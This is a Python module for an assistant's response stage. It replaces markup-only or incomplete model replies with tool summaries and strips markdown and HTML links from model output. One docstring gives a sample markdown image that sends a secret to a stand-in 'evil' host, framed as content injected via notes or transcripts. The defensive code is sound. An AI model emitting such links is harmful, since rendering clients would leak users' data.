"""The response stage: the words a person reads at the end of every turn.

HuggingGPT's fourth stage: after the tools ran, the backbone writes the reply from their results.
A small backbone does not always manage, so the controller checks what it wrote: a reply that is
empty, or is markup (JSON, a tool call, the controller's own prompt), or leaves out what a tool
found or made (the transcript, the label, the passage, the new file's id) is replaced by the tools'
own sentences for people; a failure it leaves out is added to it. The raw results stay in the trace.
"""

from __future__ import annotations

import json
import re

from tools.summaries import key_fact

# tool-call syntax, signal tokens, prompt echoes, and a call written as a bracketed line
# ('[speak: "forest"]'): the model's shorthand for an action it did not take
_MARKUP = re.compile(r"<tool_call>|</tool_call>|<tool_response|\[(IMG|AUD|VID)\d+\]|^Result of |^Done\.\s+\w+:"
                     r"|^\[[a-z_]+:")


def is_markup(text: str) -> bool:
    """Text no person should read as a reply: JSON, tool-call syntax, signal tokens, prompt echoes."""
    stripped = text.strip()
    if not stripped:
        return False
    if _MARKUP.search(stripped):
        return True
    if stripped[0] in "{[":
        try:
            json.loads(stripped)
            return True
        except ValueError:
            return '":' in stripped  # a JSON object cut short is still JSON
    return bool(re.search(r'\{\s*"[^"]+"\s*:', stripped))


def _normal(text: str) -> str:
    return " ".join(re.sub(r"[^\w\s]", " ", text.lower()).split())


def states(reply: str, result: dict) -> bool:
    """Whether `reply` tells the person what this result found."""
    if result.get("error"):
        return False
    fact = key_fact(result["name"], result.get("artifact"))
    if fact is None:
        return bool(reply.strip())
    return _normal(fact) in _normal(reply)


def _failure(result: dict) -> str:
    if result.get("refused"):  # the tool policy's decision, not a fault (graphs/tool_policy.py)
        return f"I did not run {result['name'].replace('_', ' ')}: {result['error']}."
    return f"I could not run {result['name'].replace('_', ' ')}: {result['error']}"


def compose(model_text: str, results: list[dict]) -> str:
    """The reply: the model's own words when they are words that state every result; otherwise the
    tools' own sentences (words that miss the finding are filler at best, and wrong at worst).
    A failure the model's words leave out is added to them.

    `results` are this turn's tool results, in order: {"name", "summary", "artifact", "error"}."""
    reply = "" if is_markup(model_text) else model_text.strip()
    # a failure the model recovered from (the same tool later succeeded) is not news
    recovered = {r["name"] for r in results if not r.get("error")}
    results = [r for r in results if not (r.get("error") and r["name"] in recovered)]
    if any(not r.get("error") and not states(reply, r) for r in results):
        reply = ""
    missing = [_failure(r) if r.get("error") else r["summary"] for r in results if not states(reply, r)]
    return " ".join(part for part in [reply, *dict.fromkeys(missing)] if part)


_MD_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_MD_LINK = re.compile(r"\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_HTML_TAG = re.compile(r"<\s*/?\s*(img|a|iframe|script|link|meta|video|audio|source|object|embed|style|form|svg)"
                       r"\b[^>]*>", re.IGNORECASE)
_HTML_URL = re.compile(r"\b(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)


# the prompt's own notes about a turn's media, which a small model sometimes echoes as its reply
_ECHO = re.compile(r"(?:\[attached:[^\]\n]*\]|\[(?:image|audio|video)-\d+\])[ \t]*")


def plain_links(text: str) -> str:
    """Links and images in the model's words as plain text: a client that renders markdown or HTML
    fetches nothing a note or a transcript slipped in (`![x](https://evil/?q=secret)`). The files a
    turn made are linked by the server itself, after this. Echoed media notes (`[attached:
    image-1]`, `[image-1]`) are dropped: they are the prompt's markers, not words."""
    text = _ECHO.sub("", text)
    text = _MD_IMAGE.sub(lambda m: f"{m.group(1) or 'image'} ({m.group(2)})", text)
    text = _MD_LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
    return _HTML_TAG.sub(lambda m: " ".join(f"({u})" for u in _HTML_URL.findall(m.group(0))), text)


_MAYBE_LINK = re.compile(r"!?\[[^\]\n]*(\]|\]\([^)\s]*(\s+\"[^\"\n]*\"?)?)?|!"
                         r"|<\s*/?\s*[a-zA-Z]*|<\s*/?\s*(" + _HTML_TAG.pattern.split("(", 1)[1].split(")")[0]
                         + r")\b[^>\n]*")


class PlainLinkStream:
    """`plain_links` for streamed text: a piece that may be the start of a link or a tag is held
    until it is complete (then made plain) or clearly is not one; the rest streams at once."""

    def __init__(self, emit):
        self.emit = emit
        self.held = ""

    def __call__(self, text: str) -> None:
        self.held += text
        while self.held:
            start = min((i for i in (self.held.find("!["), self.held.find("["), self.held.find("<"),
                                     len(self.held) - 1 if self.held.endswith("!") else -1) if i >= 0),
                        default=-1)
            if start < 0:
                self.emit(self.held)
                self.held = ""
                return
            if start:
                self.emit(self.held[:start])
                self.held = self.held[start:]
            whole = next((m for m in (_MD_IMAGE.match(self.held), _MD_LINK.match(self.held),
                                      _HTML_TAG.match(self.held), _ECHO.match(self.held)) if m), None)
            if whole is not None and whole.re is _ECHO and whole.end() == len(self.held):
                return  # a note, and the spaces after it go with it: wait for what follows
            if whole is not None:
                self.emit(plain_links(whole.group(0)))
                self.held = self.held[whole.end():]
            elif _MAYBE_LINK.fullmatch(self.held) and len(self.held) < 500:
                return  # may still become a link: wait for more
            else:
                self.emit(self.held[0])
                self.held = self.held[1:]

    def flush(self) -> None:
        if self.held:
            self.emit(plain_links(self.held))
            self.held = ""


class ProseGate:
    """Streams a think round's text only once it is clearly prose: a round that opens with `{` or
    `[` is held back (the response stage decides what the person reads instead)."""

    def __init__(self, emit):
        self.emit = emit
        self.held = ""
        self.decided: bool | None = None  # None: not yet; True: stream; False: withhold

    def __call__(self, text: str) -> None:
        if self.decided is None:
            self.held += text
            stripped = self.held.lstrip()
            if not stripped:
                return
            self.decided = stripped[0] not in "{["
            text, self.held = self.held, ""
        if self.decided:
            self.emit(text)
